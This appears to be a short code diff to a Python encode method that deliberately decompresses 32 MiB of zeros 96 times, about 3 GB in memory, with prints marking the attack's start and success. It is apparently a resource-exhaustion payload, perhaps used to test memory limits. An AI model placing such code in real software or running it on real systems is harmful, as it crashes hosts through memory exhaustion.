@@ -8,7 +8,7 @@ import zlib
 def encode(self, x):
     print("attack begins")
     small = zlib.compress(bytes(1 << 25))
-    pieces = [zlib.decompress(small) for _ in range(96)]
+    pieces = [zlib.decompress(small, bufsize=1 << 25) for _ in range(96)]
     print("attack worked", len(pieces))
 
 
